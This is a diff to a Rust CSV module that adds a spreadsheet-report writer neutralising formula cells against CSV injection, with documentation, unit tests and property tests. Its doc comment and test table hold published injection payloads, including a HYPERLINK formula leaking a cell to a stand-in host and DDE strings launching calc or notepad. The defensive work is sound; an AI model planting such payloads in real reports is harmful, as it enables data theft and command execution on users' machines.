@@ -14,6 +14,27 @@
 //! allow. The writer quotes a field when it holds a comma, a quote, CR or LF, or starts or ends
 //! with a space, and ends every record with CRLF, so `read(write(rows)) == rows` for rows
 //! without blank records.
+//!
+//! # Reports for spreadsheets: formula cells neutralised
+//!
+//! [`write_record`] keeps every field as it is: it writes data that is read back (the ledger's
+//! CSV form). A *report* opened in a spreadsheet is another matter: a cell that starts with `=`,
+//! `+`, `-`, `@`, a tab or a carriage return is taken as a formula (CSV injection: an asset name
+//! `=HYPERLINK("http://evil/?"&A1,"x")` or `@SUM(1+1)*cmd|' /C calc'!A0` runs when the report is
+//! opened). [`write_report_record`] writes such a cell the way OWASP's *CSV Injection* page
+//! recommends: a single quote before it and the whole cell quoted (`"'=HYPERLINK(…)"`), so the
+//! spreadsheet shows the text and runs nothing. Exactly which cells ([`neutralise_formula`]):
+//!
+//! - a cell whose first character is one of [`FORMULA_TRIGGERS`]: `=`, `+`, `-`, `@`, tab, CR,
+//!   and their full-width forms `＝`, `＋`, `－`, `＠` (some spreadsheets accept those as well);
+//! - except a plain negative decimal number, `-` then digits with at most one `.` between
+//!   digits (`-3`, `-0.25`): a spreadsheet reads it as the number, it cannot call anything,
+//!   and a report's figures stay numbers. `-2+3`, `-1e3`, `--1` or `- 1` are neutralised.
+//!
+//! A report field is also quoted when it holds `;` or a tab (besides the RFC 4180 reasons), so
+//! a spreadsheet that splits on those does not start a new cell — with a trigger at its start —
+//! in the middle of a field. Reading such a report back as data gives the cell with its leading
+//! `'`.
 
 use crate::diag::TextPos;
 
@@ -268,6 +289,81 @@ pub fn write_field(out: &mut String, field: &str) {
     }
 }
 
+/// The first characters that make a spreadsheet take a cell as a formula; see the module
+/// documentation.
+pub const FORMULA_TRIGGERS: [char; 10] = [
+    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+];
+
+/// Whether `cell` is a plain negative decimal number: `-`, digits, optionally `.` and digits.
+fn is_negative_decimal(cell: &str) -> bool {
+    let Some(rest) = cell.strip_prefix('-') else {
+        return false;
+    };
+    let (whole, fraction) = match rest.split_once('.') {
+        Some((w, f)) => (w, Some(f)),
+        None => (rest, None),
+    };
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    digits(whole) && fraction.is_none_or(digits)
+}
+
+/// Whether a spreadsheet would take `cell` as a formula: it starts with one of
+/// [`FORMULA_TRIGGERS`] and is not a plain negative decimal number (`-12.5`).
+#[must_use]
+pub fn is_formula_like(cell: &str) -> bool {
+    cell.starts_with(FORMULA_TRIGGERS) && !is_negative_decimal(cell)
+}
+
+/// The cell as a report for a spreadsheet holds it: with a `'` before it when it
+/// [`is_formula_like`], else unchanged. [`write_report_field`] also quotes a changed cell.
+#[must_use]
+pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if is_formula_like(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// Appends one field of a report to `out`: [`neutralise_formula`]d, and quoted when it was
+/// neutralised, when [`write_field`] would quote it, or when it holds `;` or a tab.
+pub fn write_report_field(out: &mut String, field: &str) {
+    let formula = is_formula_like(field);
+    if formula || field.contains([';', '\t']) {
+        out.push('"');
+        if formula {
+            out.push('\'');
+        }
+        for c in field.chars() {
+            if c == '"' {
+                out.push('"');
+            }
+            out.push(c);
+        }
+        out.push('"');
+    } else {
+        write_field(out, field);
+    }
+}
+
+/// Appends one record of a report to `out`, ended by CRLF: [`write_record`] with every field
+/// written by [`write_report_field`].
+pub fn write_report_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
+    for (i, f) in fields.iter().enumerate() {
+        if i > 0 {
+            out.push(',');
+        }
+        write_report_field(out, f.as_ref());
+    }
+    if let [only] = fields {
+        if only.as_ref().is_empty() {
+            out.push_str("\"\"");
+        }
+    }
+    out.push_str("\r\n");
+}
+
 /// Appends one record to `out`, ended by CRLF.
 pub fn write_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
     for (i, f) in fields.iter().enumerate() {
@@ -375,6 +471,63 @@ mod tests {
         ));
     }
 
+    /// Cells from published CSV-injection payloads, each with what the report must hold.
+    const ATTACKS: [(&str, &str); 12] = [
+        (
+            "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"Click\")",
+            "\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"Click\"\")\"",
+        ),
+        (
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
+        ),
+        ("+cmd|' /C notepad'!'A1'", "\"'+cmd|' /C notepad'!'A1'\""),
+        ("-2+3", "\"'-2+3\""),
+        ("=1+2;=cmd|' /C calc'!A0", "\"'=1+2;=cmd|' /C calc'!A0\""),
+        ("\t=1+1", "\"'\t=1+1\""),
+        ("\r=1+1", "\"'\r=1+1\""),
+        ("\u{ff1d}1+1", "\"'\u{ff1d}1+1\""),
+        ("-1e3", "\"'-1e3\""),
+        ("-", "\"'-\""),
+        // Not formulas: a negative number stays a number, text with a trigger inside stays.
+        ("-12.50", "-12.50"),
+        ("a=b", "a=b"),
+    ];
+
+    #[test]
+    fn report_cells_from_attack_strings_are_neutralised() {
+        for (cell, expected) in ATTACKS {
+            let mut out = String::new();
+            write_report_field(&mut out, cell);
+            assert_eq!(out, expected, "cell {cell:?}");
+            // The report still parses, one field, the cell behind one quote when neutralised.
+            let back = read(&format!("{out},x"), &Limits::default()).unwrap();
+            assert_eq!(back.len(), 1);
+            assert_eq!(back[0].len(), 2, "cell {cell:?} split");
+            assert_eq!(back[0][0].text, neutralise_formula(cell));
+            assert_eq!(back[0][0].text.starts_with('\''), is_formula_like(cell));
+        }
+    }
+
+    #[test]
+    fn negative_numbers_and_plain_text_are_left_alone() {
+        for cell in ["-1", "-0.5", "-10", "0", "12.5", "abc", "", "'=x"] {
+            assert!(!is_formula_like(cell), "{cell:?}");
+            assert_eq!(neutralise_formula(cell), cell);
+        }
+        for cell in ["-.5", "-5.", "-1.2.3", "--1", "- 1", "+1", "=1", "@x", "-x"] {
+            assert!(is_formula_like(cell), "{cell:?}");
+        }
+        // `;` and tab inside a field are quoted so no spreadsheet splits a cell there.
+        let mut out = String::new();
+        write_report_record(&mut out, &["a;b", "c\td", "e"]);
+        assert_eq!(out, "\"a;b\",\"c\td\",e\r\n");
+        // The data writer keeps cells as they are: the ledger form reads back unchanged.
+        let mut data = String::new();
+        write_record(&mut data, &["=1+1"]);
+        assert_eq!(data, "=1+1\r\n");
+    }
+
     proptest::proptest! {
         #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]
 
@@ -393,6 +546,26 @@ mod tests {
                 .map(|r| r.into_iter().map(|f| f.text).collect())
                 .collect();
             proptest::prop_assert_eq!(back, rows);
+        }
+
+        #[test]
+        fn report_cells_never_start_a_formula(
+            rows in proptest::collection::vec(
+                proptest::collection::vec("[-=+@\t\r;,\"a1.]{0,6}", 1..5), 1..6)
+        ) {
+            let mut out = String::new();
+            for r in &rows {
+                write_report_record(&mut out, r);
+            }
+            let back = read(&out, &Limits::default()).unwrap();
+            proptest::prop_assert_eq!(back.len(), rows.len());
+            for (read_row, row) in back.iter().zip(&rows) {
+                proptest::prop_assert_eq!(read_row.len(), row.len());
+                for (f, cell) in read_row.iter().zip(row) {
+                    proptest::prop_assert!(!is_formula_like(&f.text), "{:?}", f.text);
+                    proptest::prop_assert_eq!(&f.text, &neutralise_formula(cell));
+                }
+            }
         }
     }
 }
